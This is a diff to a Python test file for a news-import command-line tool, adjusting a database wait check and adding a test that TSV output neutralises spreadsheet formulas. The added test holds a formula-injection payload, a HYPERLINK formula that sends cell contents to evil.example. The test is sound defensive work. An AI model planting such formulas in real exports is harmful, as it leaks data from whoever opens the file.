@@ -260,7 +260,9 @@ def test_a_failed_import_does_not_remove_a_new_database_another_program_has_open
             [sys.executable, str(ROOT / "tests" / "child_store.py"), str(db), str(article), "ben"],
             stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
             cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
-        _wait_for(lambda: _has_open(window.pid, db), "the second program to open the database")
+        # Connected through SQLite (its -shm mapped), not only the header read.
+        _wait_for(lambda: _has_open(window.pid, tmp_path / "new.db-shm"),
+                  "the second program to open the database")
         # The import meets a bad row and fails.
         _, err = importer.communicate(f"{article},1,1,claim,x,zero,1\n", timeout=60)
         assert importer.returncode == 2, err
@@ -476,3 +478,26 @@ def test_an_orphans_times_are_checked_as_a_placed_tags_are(tmp_path):
         2, f"tui: {source}: line 1: updated_at '27/11/2026 14:09' is not an ISO 8601 time (as a "
         "spreadsheet may rewrite it); delete the created_at and updated_at columns to import "
         "with the time of the import\n")
+
+
+def test_status_tsv_carries_no_live_spreadsheet_formula(tmp_path):
+    """tui status --format tsv wrote an article's headline and outlet as they
+    were: opened in a spreadsheet, '=HYPERLINK("http://…?"&A1,…)' ran (the CSV
+    injection that CSV exports neutralise). TSV cells now get the same ';
+    JSON stays exact."""
+    import json
+
+    folder = tmp_path / "news"
+    folder.mkdir()
+    (folder / "a.txt").write_text(
+        '4 April 2014\n=HYPERLINK("http://evil.example/?"&A1,"Click")\n@SUM(1+1)\n\n'
+        "Russia said something. It was news.\n", encoding="utf-8")
+    result = run_tui("status", str(folder), "--format", "tsv", "--db", str(tmp_path / "a.db"))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.splitlines()[1].split("\t")[:4] == [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)", "2014-04-04",
+        str(folder / "a.txt")]
+    result = run_tui("status", str(folder), "--format", "json", "--db", str(tmp_path / "a.db"))
+    row = json.loads(result.stdout)[0]
+    assert (row["title"], row["outlet"]) == (
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)")
